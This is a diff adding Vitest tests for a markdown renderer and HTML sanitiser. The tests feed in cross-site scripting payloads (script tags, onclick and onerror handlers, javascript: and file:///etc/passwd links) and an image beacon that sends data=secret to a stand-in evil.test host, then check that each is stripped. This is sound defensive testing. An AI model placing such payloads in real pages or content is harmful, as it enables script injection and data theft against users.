@@ -0,0 +1,77 @@
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from './markdown';
+import { sanitizeHtml } from './sanitize';
+
+describe('sanitizeHtml', () => {
+  it('keeps the markup markdown produces', () => {
+    const html = renderMarkdown(
+      [
+        '## Steps',
+        '',
+        '1. Run `npm test`',
+        '2. Read [the docs](https://example.com/docs "Docs")',
+        '',
+        '- [x] done',
+        '',
+        '| a | b |',
+        '|:--|--:|',
+        '| 1 | 2 |',
+        '',
+        '```ts',
+        'const a = 1;',
+        '```',
+      ].join('\n')
+    );
+
+    expect(html).toContain('<h2>Steps</h2>');
+    expect(html).toContain('<code>npm test</code>');
+    expect(html).toContain('<a href="https://example.com/docs" title="Docs">the docs</a>');
+    expect(html).toContain('<input checked="" disabled="" type="checkbox">');
+    expect(html).toContain('<th align="left">a</th>');
+    expect(html).toContain(
+      '<code class="hljs language-ts"><span class="hljs-keyword">const</span>'
+    );
+  });
+
+  it('removes scripts, event handlers and frames', () => {
+    const html = sanitizeHtml(
+      '<p onclick="steal()">Hi<script>steal()</script></p><iframe src="https://evil.test"></iframe>' +
+        '<svg><script>steal()</script></svg><style>body { display: none }</style>'
+    );
+
+    expect(html).toBe('<p>Hi</p>');
+  });
+
+  it('only keeps web and mail links', () => {
+    const html = sanitizeHtml(
+      '<a href="javascript:steal()">a</a><a href="file:///etc/passwd">b</a>' +
+        '<a href="mailto:me@example.com">c</a><a href="https://example.com" target="_blank">d</a>'
+    );
+
+    expect(html).toBe(
+      '<a>a</a><a>b</a><a href="mailto:me@example.com">c</a><a href="https://example.com">d</a>'
+    );
+  });
+
+  it('shows images as their alt text so nothing is fetched', () => {
+    expect(
+      sanitizeHtml('<p><img src="https://evil.test/beacon?data=secret" alt="chart"></p>')
+    ).toBe('<p>chart</p>');
+  });
+
+  it('keeps the text of unknown elements and drops their styling', () => {
+    const html = sanitizeHtml(
+      '<div class="fixed inset-0" style="color: red">Click <span class="hljs-string text-red-500">here</span></div>'
+    );
+
+    expect(html).toBe('Click <span class="hljs-string">here</span>');
+  });
+
+  it('sanitises model-written HTML inside markdown', () => {
+    const html = renderMarkdown(
+      'Look <img src=x onerror="steal()"> <b onmouseover="steal()">now</b>'
+    );
+
+    expect(html).toBe('<p>Look  <b>now</b></p>\n');
+  });
+});